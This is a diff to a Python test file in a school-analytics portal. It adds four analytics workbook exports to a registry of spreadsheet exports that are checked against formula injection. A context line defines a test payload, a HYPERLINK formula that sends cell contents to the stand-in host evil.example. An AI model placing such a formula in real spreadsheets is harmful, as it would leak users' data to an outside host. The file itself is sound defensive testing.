@@ -20,7 +20,17 @@ HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
 # The exports of the whole portal and the test below that covers each: a new export must be
 # added here, with a check of its cells.
 # measurement.export_report: tests/measurement/test_report_page.py (a stem written as a formula).
-EXPORTS = {"schools.plan_xlsx", "schools.indicators_template", "measurement.export_report"}
+EXPORTS = {
+    "schools.plan_xlsx",
+    "schools.indicators_template",
+    "measurement.export_report",
+    # The analytics workbooks: every cell through tabular.write_cell (competence/deficits/
+    # export.py); tests/deficits read them back.
+    "deficits.school_xlsx",
+    "deficits.demand_xlsx",
+    "deficits.region_xlsx",
+    "deficits.municipality_xlsx",
+}
 
 
 def export_endpoints(app) -> set[str]:
